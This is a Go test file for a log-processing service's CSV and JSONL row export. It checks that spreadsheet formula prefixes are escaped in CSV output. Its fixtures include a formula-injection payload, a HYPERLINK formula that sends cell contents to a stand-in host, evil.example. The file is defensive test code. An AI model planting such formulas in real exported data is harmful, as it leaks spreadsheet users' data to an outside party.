package web

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/logproc/logproc/domain/analysis"
)

func TestEscapeFormula(t *testing.T) {
	for cell, want := range map[string]string{
		`=HYPERLINK("http://x.example/","hi")`: `'=HYPERLINK("http://x.example/","hi")`,
		"+1+1":                                 "'+1+1",
		"-5":                                   "'-5", // a negative number is quoted too, as OWASP advises
		"- done":                               "'- done",
		"@SUM(A1)":                             "'@SUM(A1)",
		"\t=1+2":                               "'\t=1+2",
		"\r=3+4":                               "'\r=3+4",
		"":                                     "",
		"5":                                    "5",
		"a = b":                                "a = b",
		" =1":                                  " =1",
		"'=already":                            "'=already",
	} {
		if got := escapeFormula(cell); got != want {
			t.Errorf("escapeFormula(%q) = %q, want %q", cell, got, want)
		}
	}
}

// hostileRow has a formula in every cell a log can set.
var hostileRow = analysis.Row{LineID: 1, Timestamp: "=1+1", Level: "+INFO", Component: "@cmd",
	Content: "-2+3", EventID: "\tE1", EventTemplate: "\r=<*>"}

func TestRowWriterEscapesFormulasOnlyInCSVWhenAsked(t *testing.T) {
	for _, c := range []struct {
		format string
		escape bool
		want   []string // the row's cells as read back; nil for JSON
	}{
		{"csv", true, []string{"1", "'=1+1", "'+INFO", "'@cmd", "'-2+3", "'\tE1", "'\r=<*>"}},
		{"csv", false, []string{"1", "=1+1", "+INFO", "@cmd", "-2+3", "\tE1", "\r=<*>"}},
		{"jsonl", true, nil},
	} {
		var out bytes.Buffer
		rw := NewRowWriter(c.format, &out)
		rw.EscapeFormulas = c.escape
		if err := rw.Write(hostileRow); err != nil || rw.Flush() != nil {
			t.Fatal(err)
		}
		if c.format == "jsonl" {
			var got analysis.Row
			if err := json.Unmarshal(out.Bytes(), &got); err != nil || got != hostileRow {
				t.Errorf("jsonl: %+v (%v), want the row as it is", got, err)
			}
			continue
		}
		records, err := csv.NewReader(&out).ReadAll()
		if err != nil || len(records) != 2 {
			t.Fatalf("csv with escape %v: %q, %v", c.escape, records, err)
		}
		if diff := cmp.Diff(c.want, records[1]); diff != "" {
			t.Errorf("csv with escape %v (-want +got):\n%s", c.escape, diff)
		}
	}
}

func TestRowsDownloadEscapesFormulas(t *testing.T) {
	f := newFixture(t)
	tok := f.token("alice", "", time.Hour)
	contents := []string{`=HYPERLINK("http://evil.example/?d="&A1,"details")`, "+1+1", "@SUM(1,2)", "-5",
		"- done", "\r=3+4", "plain = text"}
	var log strings.Builder
	for i, c := range contents {
		log.WriteString("2026-11-27 09:00:0" + string(rune('0'+i)) + ",000 INFO " + c + "\n")
	}
	id := f.uploadAndRun(tok, "formulas.log", []byte(log.String()))
	resp, body := f.get("/jobs/"+id.String()+"/rows?format=csv", tok)
	records, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if resp.StatusCode != http.StatusOK || err != nil || len(records) != len(contents)+1 {
		t.Fatalf("rows = %d, %d records (%v):\n%s", resp.StatusCode, len(records), err, body)
	}
	for i, rec := range records[1:] {
		want := contents[i]
		if strings.IndexByte(formulaStarts, want[0]) >= 0 {
			want = "'" + want
		}
		if rec[4] != want {
			t.Errorf("row %d: Content %q, want %q", i+1, rec[4], want)
		}
		for _, cell := range rec {
			if cell != "" && strings.IndexByte(formulaStarts, cell[0]) >= 0 {
				t.Errorf("row %d: cell %q would run as a formula", i+1, cell)
			}
		}
	}
	_, body = f.get("/jobs/"+id.String()+"/rows?format=jsonl", tok)
	var first analysis.Row
	if err := json.NewDecoder(strings.NewReader(body)).Decode(&first); err != nil || first.Content != contents[0] {
		t.Errorf("jsonl: first Content %q (%v), want %q as it is", first.Content, err, contents[0])
	}
}
